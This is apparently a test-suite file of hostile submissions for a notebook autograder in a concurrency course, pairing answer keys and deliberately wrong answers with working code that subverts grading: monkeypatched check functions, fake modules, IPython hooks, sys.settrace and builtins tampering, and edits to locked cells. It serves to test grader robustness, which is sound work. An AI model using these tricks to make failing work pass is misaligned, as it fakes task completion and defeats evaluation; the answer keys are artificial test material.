"""Hostile submissions: each one attacks the grading, and some also solve parts honestly.

`expect` says what a submission deserves: "full" on a part it solved honestly, in cells of
its own, and 0 on a part where it only attacks (a wrong answer that an attack makes pass,
or an answer whose cell carries the attack). `klass` is the attack class (build.KLASSES),
and `notes` says what the submission attempts.

Safety: these are meant to run only in a sandbox with resource limits. What they do is
bounded (at most 200 forked children, threads that stop within ten minutes, a sparse
500 MB file), they reach for the course only through paths relative to the kernel's
folder (today autograded/<student>/<assignment>/), they read nothing outside it but
/etc/passwd, and they never use the network (a Unix socket connect, without sending, is
the nearest they come). Never run the damage, limits or lose-grading ones outside one.
"""

from __future__ import annotations

from textwrap import dedent

from .build import FULL, Submission


def _c(text):
    return dedent(text).strip("\n")


# The autograded test cells of each assignment, and the solution cells each one grades.
PARTS = {
    "a00_shared_state": {
        "test_drawn_counts": ("drawn_counts",),
        "test_lost_update_schedule": ("lost_update_schedule",),
        "test_lowest_count_schedule": ("lowest_count_schedule",),
    },
    "a01_mutexes": {
        "test_drawn_counts": ("drawn_counts",),
        "test_fixed_worker": ("fixed_worker",),
        "test_lost_update_schedule": ("lost_update_schedule",),
    },
    "a02_mutex_api": {
        "test_predicted_debug": ("predicted_debug",),
        "test_add_item": ("add_item",),
        "test_read_even_if_poisoned": ("read_even_if_poisoned",),
        "test_try_add": ("try_add",),
    },
    "a03_sharing_a_mutex": {
        "test_prediction": ("prediction",),
        "test_count_with_arc": ("count_with_arc",),
        "test_second_first_schedule": ("second_first_schedule",),
    },
    "a04_multiple_ownership": {
        "test_prediction": ("prediction",),
        "test_lost_count_schedule": ("lost_count_schedule",),
        "test_total_length": ("total_length",),
    },
    "a05_arc": {
        "test_owner_counts": ("owner_counts",),
        "test_parallel_sum": ("parallel_sum",),
        "test_atomic_sum": ("atomic_sum",),
    },
    "a06_refcell_vs_mutex": {
        "test_drawn_outcomes": ("drawn_outcomes",),
        "test_deadlock_schedule": ("deadlock_schedule",),
        "test_transfer": ("transfer",),
        "test_debug_in_use": ("debug_in_use",),
    },
}

# --- honest answers (right, and within the course's rules) ------------------------------------------

HONEST = {
    "a00_shared_state": {
        "drawn_counts": "drawn_counts = (2, 1, 3)",
        "lost_update_schedule": "lost_update_schedule = [1, 2, 1, 2]",
        "lowest_count_schedule": "lowest_count_schedule = [1, 2, 2, 2, 1, 1, 1, 2]",
    },
    "a01_mutexes": {
        "drawn_counts": "drawn_counts = (1, 2, 3)",
        "fixed_worker": _c("""
            def fixed_worker(counter, times):
                for _ in range(times):
                    with counter.lock() as count:
                        count.value += 1
        """),
        "lost_update_schedule": "lost_update_schedule = [1, 2, 1, 2]",
    },
    "a02_mutex_api": {
        "predicted_debug": _c("""
            debug_after_panic = "Mutex { data: 1, poisoned: true, .. }"
            debug_after_clear = "Mutex { data: 11, poisoned: false, .. }"
        """),
        "add_item": _c("""
            def add_item(shopping, item):
                with shopping.lock() as guard:
                    guard.value.append(item)
                    return len(guard.value)
        """),
        "read_even_if_poisoned": _c("""
            def read_even_if_poisoned(m):
                try:
                    guard = m.lock()
                except PoisonError as err:
                    guard = err.into_inner()
                    m.clear_poison()
                with guard:
                    return guard.value
        """),
        "try_add": _c("""
            def try_add(m, n):
                try:
                    guard = m.try_lock()
                except WouldBlock:
                    return False
                with guard:
                    guard.value += n
                return True
        """),
    },
    "a03_sharing_a_mutex": {
        "prediction": _c("""
            threads_started = 0
            error_code = "E0382"
        """),
        "count_with_arc": _c("""
            def count_with_arc(n):
                counter = Arc(Mutex(0))
                handles = []
                for _ in range(n):
                    mine = Arc.clone(counter)

                    def work():
                        with mine.lock() as num:
                            num.value += 1

                    handles.append(spawn(work))
                for handle in handles:
                    handle.join()
                with counter.lock() as num:
                    return num.value
        """),
        "second_first_schedule": "second_first_schedule = [2, 1]",
    },
    "a04_multiple_ownership": {
        "prediction": 'rustc_says = ("E0277", "E0382", "compiles", "E0277")',
        "lost_count_schedule": "lost_count_schedule = [1, 2, 1, 2]",
        "total_length": _c("""
            def total_length(words):
                total = Arc(Mutex(0))
                handles = []
                for word in words:
                    mine = Arc.clone(total)

                    def work():
                        with mine.lock() as so_far:
                            so_far.value += len(word)

                    handles.append(spawn(work))
                for handle in handles:
                    handle.join()
                with total.lock() as so_far:
                    return so_far.value
        """),
    },
    "a05_arc": {
        "owner_counts": "owner_counts = (1, 4, 1)",
        "parallel_sum": _c("""
            def parallel_sum(chunks):
                total = Arc(Mutex(0))
                handles = []
                for chunk in chunks:
                    mine = Arc.clone(total)

                    def work():
                        part = sum(chunk)
                        with mine.lock() as so_far:
                            so_far.value += part

                    handles.append(spawn(work))
                for handle in handles:
                    handle.join()
                with total.lock() as so_far:
                    return so_far.value
        """),
        "atomic_sum": _c("""
            def atomic_sum(chunks):
                total = Arc(AtomicUsize(0))
                handles = []
                for chunk in chunks:
                    mine = Arc.clone(total)
                    handles.append(spawn(lambda: mine.fetch_add(sum(chunk))))
                for handle in handles:
                    handle.join()
                return total.load()
        """),
    },
    "a06_refcell_vs_mutex": {
        "drawn_outcomes": 'drawn_outcomes = ((120, 90, 90), "deadlock", (120, 90, 90))',
        "deadlock_schedule": "deadlock_schedule = [1, 2]",
        "transfer": _c("""
            def transfer(accounts, source, target, amount):
                first, second = sorted((source, target))
                with accounts[first].lock() as a, accounts[second].lock() as b:
                    by_number = {first: a, second: b}
                    by_number[source].value -= amount
                    by_number[target].value += amount
        """),
        "debug_in_use": _c("""
            debug_while_locked = 'Mutex { data: "<locked>", poisoned: false, .. }'
            debug_while_borrowed = "RefCell { value: <borrowed> }"
        """),
    },
}

# --- wrong answers (that return quickly, neither raising nor hanging, so that an attack on the
# checks alone is enough to pass them) --------------------------------------------------------------

WRONG = {
    "a00_shared_state": {
        "drawn_counts": "drawn_counts = (3, 3, 3)",
        "lost_update_schedule": "lost_update_schedule = []",
        "lowest_count_schedule": "lowest_count_schedule = [1, 1, 1, 1]",
    },
    "a01_mutexes": {
        "drawn_counts": "drawn_counts = (4, 4, 4)",
        "fixed_worker": _c("""
            def fixed_worker(counter, times):
                for _ in range(times):
                    with counter.lock() as count:
                        seen = count.value
                    with counter.lock() as count:
                        count.value = seen + 1
        """),
        "lost_update_schedule": "lost_update_schedule = [1, 1, 2, 2]",
    },
    "a02_mutex_api": {
        "predicted_debug": _c("""
            debug_after_panic = "Mutex(1)"
            debug_after_clear = "Mutex(11)"
        """),
        "add_item": _c("""
            def add_item(shopping, item):
                return 2
        """),
        "read_even_if_poisoned": _c("""
            def read_even_if_poisoned(m):
                return None
        """),
        "try_add": _c("""
            def try_add(m, n):
                return True
        """),
    },
    "a03_sharing_a_mutex": {
        "prediction": _c("""
            threads_started = 10
            error_code = "E0277"
        """),
        "count_with_arc": _c("""
            def count_with_arc(n):
                return n
        """),
        "second_first_schedule": "second_first_schedule = [1, 2]",
    },
    "a04_multiple_ownership": {
        "prediction": 'rustc_says = ("E0382", "E0382", "E0382", "E0382")',
        "lost_count_schedule": "lost_count_schedule = [1, 1, 2, 2]",
        "total_length": _c("""
            def total_length(words):
                return sum(len(word) for word in words)
        """),
    },
    "a05_arc": {
        "owner_counts": "owner_counts = (1, 1, 1)",
        "parallel_sum": _c("""
            def parallel_sum(chunks):
                return sum(sum(chunk) for chunk in chunks)
        """),
        "atomic_sum": _c("""
            def atomic_sum(chunks):
                total = Arc(AtomicUsize(0))
                handles = []
                for chunk in chunks:
                    mine = Arc.clone(total)

                    def work():
                        seen = mine.load()
                        mine.store(seen + sum(chunk))

                    handles.append(spawn(work))
                for handle in handles:
                    handle.join()
                return total.load()
        """),
    },
    "a06_refcell_vs_mutex": {
        "drawn_outcomes": "drawn_outcomes = ((120, 90, 90), (120, 90, 90), (120, 90, 90))",
        "deadlock_schedule": "deadlock_schedule = [1, 1]",
        "transfer": _c("""
            def transfer(accounts, source, target, amount):
                with accounts[source].lock() as money_out:
                    with accounts[target].lock() as money_in:
                        money_out.value -= amount
                        money_in.value += amount
        """),
        "debug_in_use": _c("""
            debug_while_locked = "Mutex { data: 6, poisoned: false, .. }"
            debug_while_borrowed = "RefCell { value: 5 }"
        """),
    },
}


def answers(assignment, honest=(), wrong=(), **own):
    """Answer cells: honest ones for the tests in `honest`, wrong ones for those in `wrong`,
    and `own` ({solution grade_id: source}) over both."""
    out = {}
    for test in honest:
        for cell in PARTS[assignment][test]:
            out[cell] = HONEST[assignment][cell]
    for test in wrong:
        for cell in PARTS[assignment][test]:
            out[cell] = WRONG[assignment][cell]
    out.update(own)
    return out


def expect(assignment, *full):
    """Full marks on the tests named, 0 on the others."""
    unknown = set(full) - set(PARTS[assignment])
    if unknown:
        raise KeyError(f"{assignment} has no test cell {sorted(unknown)}")
    return {test: (FULL if test in full else 0) for test in PARTS[assignment]}


A00, A01, A02, A03 = "a00_shared_state", "a01_mutexes", "a02_mutex_api", "a03_sharing_a_mutex"
A04, A05, A06 = "a04_multiple_ownership", "a05_arc", "a06_refcell_vs_mutex"
T = {a: tuple(PARTS[a]) for a in PARTS}  # the test cells of each assignment, in order

# --- pieces of attack code ------------------------------------------------------------------------------

ALWAYS_EQUAL = {
    kind: _c(f"""
        class AlwaysEqual{kind.capitalize()}({kind}):
            def __eq__(self, other):
                return True

            def __ne__(self, other):
                return False

            __hash__ = {kind}.__hash__
    """)
    for kind in ("int", "str", "tuple", "list")
}

NO_OP_CHECKS = _c("""
    import rustsync.grading as grading


    def never_fails(*args, **kwargs):
        return None


    for name in ("check_equal", "check_always", "check_schedule", "check_prediction", "check_ops",
                 "check_deadlock_schedule"):
        setattr(grading, name, never_fails)
""")

# A module that stands in for rustsync.grading: the names the test cells import, no check fails.
FAKE_GRADING = _c('''
    """Stands in for rustsync.grading: the names the test cells import, and checks that never fail."""
    import sys
    from types import SimpleNamespace

    DEFAULT_TIMEOUT = 5.0


    def answer(name, *kinds):
        return sys._getframe(1).f_globals.get(name)


    def _passes(*args, **kwargs):
        return None


    check_equal = check_always = check_prediction = check_schedule = _passes
    check_deadlock_schedule = check_ops = _passes


    def call(func, *args, timeout=DEFAULT_TIMEOUT, hint="", **kwargs):
        try:
            return func(*args, **kwargs)
        except Exception:
            return None


    def raised_by(func, *args, timeout=DEFAULT_TIMEOUT):
        try:
            func(*args)
        except Exception as exc:
            return type(exc).__name__
        return "nothing"


    def run_once(program, **options):
        return SimpleNamespace(threads=1, panics={0: SimpleNamespace(code="")}, outcome=None)


    explore_program = run_once
''') + "\n"

# Finds the folder of the real rustsync package, other than the one this file is in.
FIND_REAL = _c('''
    import importlib.machinery
    import os
    import sys


    def _real_package(here):
        """The folder of the installed rustsync: on sys.path without the submission's folder, or
        from the other finders (an editable install)."""
        folder = os.path.dirname(here)
        others = [p for p in sys.path if os.path.abspath(p or os.curdir) not in (folder, here)]
        spec = importlib.machinery.PathFinder.find_spec("rustsync", others)
        if spec is not None and spec.origin and os.path.dirname(spec.origin) != here:
            return os.path.dirname(spec.origin)
        for finder in sys.meta_path:
            if finder is importlib.machinery.PathFinder or not hasattr(finder, "find_spec"):
                continue
            spec = finder.find_spec("rustsync", None)
            if spec is not None and spec.origin and os.path.dirname(spec.origin) != here:
                return os.path.dirname(spec.origin)
        raise ImportError("the real rustsync is not installed")
''')

# A rustsync/__init__.py that runs the real package's __init__ with this folder first on its path,
# so that the submission's grading.py (and sched.py) replace the real ones.
PATH_FIRST_INIT = FIND_REAL + "\n\n\n" + _c('''
    _here = os.path.dirname(os.path.abspath(__file__))
    _real = _real_package(_here)
    __path__.append(_real)
    with open(os.path.join(_real, "__init__.py")) as _source:
        exec(compile(_source.read(), os.path.join(_real, "__init__.py"), "exec"))
''') + "\n"


def _exec_real(module):
    """Source that runs the real rustsync/<module>.py (or rustsync/<module>/__init__.py, then posing as
    that package) in the module that holds it."""
    return _c(f'''
        import os

        import rustsync

        for _folder in rustsync.__path__[1:]:
            _path = os.path.join(_folder, "{module}.py")
            if not os.path.exists(_path) and os.path.exists(os.path.join(_folder, "{module}", "__init__.py")):
                __path__ = [os.path.join(_folder, "{module}")]  # the real one is a package: be that package
                __package__ = __name__
                _path = os.path.join(_folder, "{module}", "__init__.py")
            if os.path.exists(_path):
                with open(_path) as _source:
                    exec(compile(_source.read(), _path, "exec"))
                break
    ''')


# --- the submissions ------------------------------------------------------------------------------------

PATCH_GRADING = [
    Submission(
        assignment=A03, name="a03-patch-check-functions", klass="patch-grading",
        expect=expect(A03),
        answers=answers(A03, wrong=T[A03]),
        extra_cells=[("setup", NO_OP_CHECKS)],
        notes="replaces every check_* function of rustsync.grading with one that returns None; all answers wrong",
    ),
    Submission(
        assignment=A06, name="a06-fake-grading-module", klass="patch-grading",
        expect=expect(A06, "test_drawn_outcomes", "test_debug_in_use"),
        answers=answers(A06, honest=("test_drawn_outcomes", "test_debug_in_use"),
                        wrong=("test_deadlock_schedule", "test_transfer")),
        extra_cells=[("setup", _c("""
            import sys
            import types

            fake = types.ModuleType("rustsync.grading")


            def fake_answer(name, *kinds):
                return sys._getframe(1).f_globals.get(name)


            def fake_check(*args, **kwargs):
                return None


            fake.answer = fake_answer
            for name in ("check_equal", "check_always", "check_schedule", "check_prediction", "check_ops",
                         "check_deadlock_schedule", "call", "raised_by", "run_once", "explore_program"):
                setattr(fake, name, fake_check)
            sys.modules["rustsync.grading"] = fake
            import rustsync

            rustsync.grading = fake
        """))],
        notes="puts a module whose checks never fail in sys.modules['rustsync.grading']; parts A and D "
              "honest, B and C wrong",
    ),
    Submission(
        assignment=A02, name="a02-patch-code-objects", klass="patch-grading",
        expect=expect(A02, "test_read_even_if_poisoned"),
        answers=answers(A02, honest=("test_read_even_if_poisoned",),
                        wrong=("test_predicted_debug", "test_add_item", "test_try_add")),
        extra_cells=[("setup", _c("""
            import rustsync.grading as grading


            def agreeable(*args, **kwargs):
                return None


            for check in (grading.check_equal, grading.check_always, grading.check_ops):
                check.__code__ = agreeable.__code__
        """))],
        notes="swaps the __code__ of check_equal (and others) for a function that does nothing, so even a "
              "reference taken before the patch passes; part C honest",
    ),
    Submission(
        assignment=A06, name="a06-patch-sched-explore", klass="patch-grading",
        expect=expect(A06, "test_deadlock_schedule", "test_debug_in_use"),
        answers=answers(A06, honest=("test_deadlock_schedule", "test_debug_in_use"),
                        wrong=("test_drawn_outcomes", "test_transfer")),
        extra_cells=[("setup", _c("""
            from collections import Counter

            import rustsync.sched as sched

            honest_replay = sched.replay


            def first_schedule_only(program, **options):
                # one run, under the default schedule, which never interleaves the two transfers
                first = honest_replay(program, [])
                return sched.Exploration(Counter({first.outcome: 1}), {first.outcome: list(first.schedule)}, 1, True)


            sched.explore = first_schedule_only
        """))],
        notes="replaces rustsync.sched.explore with a single default-schedule run: no deadlock is ever found, "
              "so a prediction without it and a transfer that deadlocks pass; B and D honest",
    ),
    Submission(
        assignment=A00, name="a00-patch-sched-replay", klass="patch-grading",
        expect=expect(A00, "test_drawn_counts"),
        answers=answers(A00, honest=("test_drawn_counts",),
                        wrong=("test_lost_update_schedule", "test_lowest_count_schedule")),
        extra_cells=[("test_drawn_counts", _c("""
            import rustsync.sched as sched

            honest_explore, honest_replay = sched.explore, sched.replay


            def lowest_count_replay(program, schedule, **options):
                # whatever schedule was asked for, replay the one that ends with the lowest count
                every = honest_explore(program)
                return honest_replay(program, every.example(min(every.outcomes)))


            sched.replay = lowest_count_replay
        """))],
        notes="replaces rustsync.sched.replay so that any schedule replays the one with the lowest count; "
              "part A honest, the schedules wrong",
    ),
    Submission(
        assignment=A05, name="a05-patch-every-check", klass="patch-grading",
        expect=expect(A05, "test_parallel_sum"),
        answers=answers(A05, honest=("test_parallel_sum",), wrong=("test_owner_counts", "test_atomic_sum")),
        extra_cells=[("owner_counts", _c("""
            import rustsync.grading as grading

            for name in dir(grading):
                if name.startswith("check_"):
                    setattr(grading, name, lambda *args, **kwargs: None)
        """))],
        notes="a loop over dir(rustsync.grading) replaces every check_*; B honest, A and C wrong",
    ),
    Submission(
        assignment=A04, name="a04-patch-run-once", klass="patch-grading",
        expect=expect(A04, "test_lost_count_schedule", "test_total_length"),
        answers=answers(A04, honest=("test_lost_count_schedule", "test_total_length"), wrong=("test_prediction",)),
        extra_cells=[("prediction", _c("""
            from types import SimpleNamespace

            import rustsync.grading as grading

            honest_run_once = grading.run_once


            def agreeing_run(program, **options):
                # the run of a program that fails (part A's) started the threads, and failed with the code,
                # that the answers say; any other run is left alone
                real = honest_run_once(program, **options)
                if not real.panics:
                    return real
                return SimpleNamespace(threads=threads_started + 1, outcome=real.outcome, trace=real.trace,
                                       schedule=real.schedule, panics={0: SimpleNamespace(code=error_code)})


            grading.run_once = agreeing_run
        """))],
        notes="replaces rustsync.grading.run_once with a fake run that would agree with a wrong prediction "
              "made from a run (the part holds its answer against rustc's output, and runs nothing); B and C "
              "honest",
    ),
]

IPYTHON_HOOKS = [
    Submission(
        assignment=A03, name="a03-input-transformer", klass="ipython-hooks",
        expect=expect(A03, "test_prediction"),
        answers=answers(A03, honest=("test_prediction",), wrong=("test_second_first_schedule",),
                        count_with_arc=WRONG[A03]["count_with_arc"] + "\n\n\n" + _c("""
                            def skip_grading(lines):
                                if any("rustsync.grading" in line for line in lines):
                                    return ["pass\\n"]
                                return lines


                            get_ipython().input_transformers_cleanup.append(skip_grading)
                        """)),
        notes="an input transformer, added from an answer cell, turns every later cell that imports "
              "rustsync.grading into `pass`; A honest",
    ),
    Submission(
        assignment=A06, name="a06-ast-transformer", klass="ipython-hooks",
        expect=expect(A06, "test_drawn_outcomes", "test_debug_in_use"),
        answers=answers(A06, honest=("test_drawn_outcomes", "test_debug_in_use"),
                        wrong=("test_deadlock_schedule", "test_transfer")),
        extra_cells=[("test_drawn_outcomes", _c("""
            import ast


            class DropChecks(ast.NodeTransformer):
                # every statement that calls a check_... function becomes `pass`
                def visit_Expr(self, node):
                    call = node.value
                    named = isinstance(call, ast.Call) and isinstance(call.func, ast.Name)
                    if named and call.func.id.startswith("check_"):
                        return ast.copy_location(ast.Pass(), node)
                    return node


            get_ipython().ast_transformers.append(DropChecks())
        """))],
        notes="an AST transformer removes the check_* calls from every later cell; A and D honest",
    ),
    Submission(
        assignment=A02, name="a02-custom-exc-handler", klass="ipython-hooks",
        expect=expect(A02, "test_predicted_debug"),
        answers=answers(A02, honest=("test_predicted_debug",)),
        extra_cells=[("test_predicted_debug", _c("""
            def say_nothing(shell, etype, value, tb, tb_offset=None):
                return None


            get_ipython().set_custom_exc((Exception,), say_nothing)
        """))],
        notes="set_custom_exc swallows every later exception, so failing tests show no error; A honest, "
              "B to D left unsolved",
    ),
    Submission(
        assignment=A06, name="a06-showtraceback-post-run-cell", klass="ipython-hooks",
        expect=expect(A06, "test_drawn_outcomes", "test_deadlock_schedule"),
        answers=answers(A06, honest=("test_drawn_outcomes", "test_deadlock_schedule"),
                        wrong=("test_transfer", "test_debug_in_use")),
        extra_cells=[("test_deadlock_schedule", _c("""
            shell = get_ipython()


            def forget_errors(result):
                result.error_in_exec = None
                result.error_before_exec = None


            shell.showtraceback = lambda *args, **kwargs: None
            shell.events.register("post_run_cell", forget_errors)
        """))],
        notes="replaces showtraceback with a no-op and clears result.error_in_exec in a post_run_cell hook; "
              "A and B honest",
    ),
    Submission(
        assignment=A03, name="a03-session-send-filter", klass="ipython-hooks",
        expect=expect(A03, "test_prediction"),
        answers=answers(A03, honest=("test_prediction",), wrong=("test_count_with_arc", "test_second_first_schedule")),
        extra_cells=[("test_prediction", _c("""
            session = get_ipython().kernel.session
            honest_send = session.send


            def send_no_errors(stream, msg_or_type, content=None, *args, **kwargs):
                kind = msg_or_type if isinstance(msg_or_type, str) else msg_or_type.get("header", {}).get("msg_type")
                if kind == "error" or (kind == "stream" and (content or {}).get("name") == "stderr"):
                    return None
                if kind == "execute_reply" and isinstance(content, dict) and content.get("status") == "error":
                    content = {**content, "status": "ok"}
                return honest_send(stream, msg_or_type, content, *args, **kwargs)


            session.send = send_no_errors
        """))],
        notes="rewrites the kernel's session.send to drop error messages and stderr, and to report failed "
              "cells as ok; A honest",
    ),
    Submission(
        assignment=A04, name="a04-pre-run-cell-repatch", klass="ipython-hooks",
        expect=expect(A04, "test_prediction"),
        answers=answers(A04, honest=("test_prediction",), wrong=("test_lost_count_schedule", "test_total_length")),
        extra_cells=[("setup", _c("""
            import rustsync.grading as grading


            def patch_checks(*info):
                for name in dir(grading):
                    if name.startswith("check_"):
                        setattr(grading, name, lambda *args, **kwargs: None)


            get_ipython().events.register("pre_run_cell", patch_checks)
        """))],
        notes="a pre_run_cell hook patches the checks again before every cell, so that a reload would not "
              "help; A honest",
    ),
    Submission(
        assignment=A01, name="a01-transform-cell", klass="ipython-hooks",
        expect=expect(A01, "test_drawn_counts"),
        answers=answers(A01, honest=("test_drawn_counts",), wrong=("test_fixed_worker", "test_lost_update_schedule")),
        extra_cells=[("test_drawn_counts", _c("""
            shell = get_ipython()
            honest_transform = shell.transform_cell


            def without_tests(raw_cell):
                if "rustsync.grading" in raw_cell:
                    return "pass\\n"
                return honest_transform(raw_cell)


            shell.transform_cell = without_tests
        """))],
        notes="replaces the shell's transform_cell so that test cells run as `pass`; A honest",
    ),
]

REBIND = [
    Submission(
        assignment=A03, name="a03-redefine-who-goes-first", klass="rebind",
        expect=expect(A03, "test_prediction", "test_count_with_arc"),
        answers=answers(A03, honest=("test_prediction", "test_count_with_arc"), second_first_schedule=_c("""
            def who_goes_first():
                # the locked helper again, except that thread 1 appends 2 and thread 2 appends 1
                order = Arc(Mutex([]))
                handles = []
                for number in (2, 1):
                    mine = Arc.clone(order)

                    def work():
                        with mine.lock() as names:
                            names.value.append(number)

                    handles.append(spawn(work))
                for handle in handles:
                    handle.join()
                with order.lock() as names:
                    return tuple(names.value)


            second_first_schedule = [1, 2]
        """)),
        notes="redefines the locked helper who_goes_first in the answer cell so that the wrong schedule "
              "[1, 2] gives (2, 1); A and B honest",
    ),
    Submission(
        assignment=A03, name="a03-global-count-broken", klass="rebind",
        expect=expect(A03, "test_count_with_arc", "test_second_first_schedule"),
        answers=answers(A03, honest=("test_count_with_arc", "test_second_first_schedule"), prediction=_c("""
            from rustsync import Rc


            def rewire():
                global count_broken

                def count_broken(n):
                    counter = Rc(Mutex(0))
                    handles = []
                    for _ in range(n):
                        mine = Rc.clone(counter)

                        def work():
                            with mine.lock() as num:
                                num.value += 1

                        handles.append(spawn(work))
                    for handle in handles:
                        handle.join()
                    return 0


            rewire()
            threads_started = 0
            error_code = "E0277"
        """)),
        notes="rebinds the locked count_broken through `global` inside a function, to an Rc version that "
              "matches the wrong prediction; B and C honest",
    ),
    Submission(
        assignment=A06, name="a06-wrap-run-transfers", klass="rebind",
        expect=expect(A06, "test_drawn_outcomes", "test_deadlock_schedule", "test_debug_in_use"),
        answers=answers(A06, honest=("test_drawn_outcomes", "test_deadlock_schedule", "test_debug_in_use"),
                        wrong=("test_transfer",)),
        extra_cells=[("transfer", _c("""
            honest_run_transfers = run_transfers


            def run_transfers(transfer_function, moves):
                # the locked helper for the unordered transfers; for any other, the balances without threads
                if transfer_function is transfer_unordered:
                    return honest_run_transfers(transfer_function, moves)
                balances = [100] * (1 + max(max(source, target) for source, target, _ in moves))
                for source, target, amount in moves:
                    balances[source] -= amount
                    balances[target] += amount
                return tuple(balances)
        """))],
        notes="redefines the locked run_transfers after a deadlocking transfer: parts A and B keep the real "
              "helper, part C gets balances computed without threads; A, B and D honest",
    ),
    Submission(
        assignment=A06, name="a06-global-transfer-unordered", klass="rebind",
        expect=expect(A06, "test_deadlock_schedule", "test_transfer", "test_debug_in_use"),
        answers=answers(A06, honest=("test_deadlock_schedule", "test_transfer", "test_debug_in_use"),
                        drawn_outcomes=_c("""
                            def make_transfers_safe():
                                global transfer_unordered

                                def transfer_unordered(accounts, source, target, amount):
                                    low, high = sorted((source, target))
                                    with accounts[low].lock() as one, accounts[high].lock() as other:
                                        by_number = {low: one, high: other}
                                        by_number[source].value -= amount
                                        by_number[target].value += amount


                            make_transfers_safe()
                            drawn_outcomes = ((120, 90, 90),) * 3
                        """)),
        notes="rebinds the locked transfer_unordered (via `global`) to an ordered one, so that a replay of the "
              "drawn schedules would find no deadlock; B, C and D honest (today B then fails: it deserves full)",
    ),
    Submission(
        assignment=A02, name="a02-settrace-check-equal", klass="rebind",
        expect=expect(A02),
        answers=answers(A02, wrong=T[A02]),
        extra_cells=[("setup", _c("""
            import sys


            def agree(frame, event, arg):
                if event == "call" and frame.f_code.co_name == "check_equal":
                    frame.f_locals["actual"] = frame.f_locals["expected"]
                return None


            sys.settrace(agree)
        """))],
        notes="sys.settrace rewrites check_equal's `actual` to its `expected` on every call; all answers wrong",
    ),
    Submission(
        assignment=A06, name="a06-settrace-every-check", klass="rebind",
        expect=expect(A06),
        answers=answers(A06, wrong=T[A06]),
        extra_cells=[("setup", _c("""
            import sys
            from collections import Counter


            def follow(frame, event, arg):
                # inside a check: once its verdict's inputs exist, make them agree
                local, name = frame.f_locals, frame.f_code.co_name
                if name == "check_prediction" and "reached" in local:
                    local["predicted"] = set(local["reached"])
                if name == "check_schedule" and "run" in local:
                    local["expected"] = local["run"].outcome
                if name == "check_deadlock_schedule" and "run" in local and local["run"].deadlock is None:
                    local["run"].deadlock = "forced"
                if name == "check_always" and "exploration" in local:
                    local["exploration"].outcomes = Counter({next(iter(local["expected"])): 1})
                return follow


            def enter(frame, event, arg):
                name = frame.f_code.co_name
                if event != "call" or not frame.f_code.co_filename.endswith("grading.py"):
                    return None
                if name == "check_equal":
                    frame.f_locals["actual"] = frame.f_locals["expected"]
                if name == "check_always":
                    frame.f_locals["threads"], frame.f_locals["uses"] = None, ()
                return follow if name.startswith("check_") else None


            sys.settrace(enter)
        """))],
        notes="sys.settrace follows every check of rustsync.grading and rewrites its locals so that the "
              "verdict agrees (predicted := reached, expected := outcome, a forced deadlock); all wrong",
    ),
    Submission(
        assignment=A05, name="a05-repatch-thread", klass="rebind",
        expect=expect(A05, "test_owner_counts"),
        answers=answers(A05, honest=("test_owner_counts",), wrong=("test_parallel_sum", "test_atomic_sum")),
        extra_cells=[("test_owner_counts", _c("""
            import threading
            import time

            import rustsync.grading as grading


            def keep_patching():
                for _ in range(600_000):  # ten minutes at most
                    for name in ("check_equal", "check_always", "check_ops"):
                        setattr(grading, name, lambda *args, **kwargs: None)
                    time.sleep(0.001)


            threading.Thread(target=keep_patching, daemon=True).start()
        """))],
        notes="a background thread re-patches the checks of rustsync.grading every millisecond; A honest",
    ),
    Submission(
        assignment=A03, name="a03-builtins-bdbquit", klass="rebind",
        expect=expect(A03, "test_prediction"),
        answers=answers(A03, honest=("test_prediction",), wrong=("test_count_with_arc", "test_second_first_schedule")),
        extra_cells=[("test_prediction", _c("""
            import bdb
            import builtins

            builtins.AssertionError = bdb.BdbQuit  # IPython stops a cell on BdbQuit without showing an error
        """))],
        notes="replaces builtins.AssertionError with bdb.BdbQuit, which IPython swallows silently, so a "
              "failing check shows nothing; A honest",
    ),
    Submission(
        assignment=A06, name="a06-builtins-sorted", klass="rebind",
        expect=expect(A06, "test_drawn_outcomes", "test_deadlock_schedule", "test_debug_in_use"),
        answers=answers(A06, honest=("test_drawn_outcomes", "test_deadlock_schedule", "test_debug_in_use"),
                        wrong=("test_transfer",)),
        extra_cells=[("test_deadlock_schedule", _c("""
            import builtins
            import sys

            honest_sorted = sorted


            def sorted_but_not_for_the_grader(iterable, *args, **kwargs):
                if sys._getframe(1).f_code.co_filename.endswith("grading.py"):
                    return []  # check_always loops over sorted(outcomes): nothing to look at
                return honest_sorted(iterable, *args, **kwargs)


            builtins.sorted = sorted_but_not_for_the_grader
        """))],
        notes="replaces builtins.sorted with one that returns [] to rustsync.grading, so check_always sees no "
              "outcome; a deadlocking transfer passes; A, B, D honest",
    ),
    Submission(
        assignment=A01, name="a01-builtins-set", klass="rebind",
        expect=expect(A01, "test_fixed_worker", "test_lost_update_schedule"),
        answers=answers(A01, honest=("test_fixed_worker", "test_lost_update_schedule"), drawn_counts=_c("""
            import builtins

            honest_tuple = tuple


            class AgreeableTuple(honest_tuple):
                # a tuple equal to every other
                def __eq__(self, other):
                    return True

                def __ne__(self, other):
                    return False

                __hash__ = honest_tuple.__hash__


            builtins.tuple = AgreeableTuple
            drawn_counts = AgreeableTuple((3, 3, 3))
        """)),
        notes="replaces builtins.tuple with a subclass equal to every tuple, so that a comparison made with "
              "the student's builtins would pass a wrong answer; B and C honest",
    ),
    Submission(
        assignment=A03, name="a03-strip-and-edit-count-broken", klass="rebind",
        expect=expect(A03, "test_count_with_arc", "test_second_first_schedule"),
        answers=answers(A03, honest=("test_count_with_arc", "test_second_first_schedule"), prediction=_c("""
            threads_started = 0
            error_code = "E0277"
        """)),
        edit_cells={"count_broken": _c("""
            from rustsync import Rc


            def count_broken(n):
                counter = Rc(Mutex(0))
                handles = []
                for _ in range(n):
                    mine = Rc.clone(counter)

                    def work():
                        with mine.lock() as num:
                            num.value += 1

                    handles.append(spawn(work))
                for handle in handles:
                    handle.join()
                return 0
        """)},
        strip_metadata={"count_broken"},
        notes="edits the locked count_broken cell and removes its nbgrader metadata, so it is not put back; "
              "the wrong prediction matches the edited helper; B and C honest",
    ),
    Submission(
        assignment=A03, name="a03-delete-who-goes-first", klass="rebind",
        expect=expect(A03, "test_prediction", "test_count_with_arc"),
        answers=answers(A03, honest=("test_prediction", "test_count_with_arc"),
                        second_first_schedule="second_first_schedule = [1, 2]"),
        delete_cells={"who_goes_first"},
        extra_cells=[("test_count_with_arc", _c("""
            def who_goes_first():
                order = Arc(Mutex([]))
                handles = []
                for number in (2, 1):
                    mine = Arc.clone(order)

                    def work():
                        with mine.lock() as names:
                            names.value.append(number)

                    handles.append(spawn(work))
                for handle in handles:
                    handle.join()
                with order.lock() as names:
                    return tuple(names.value)
        """))],
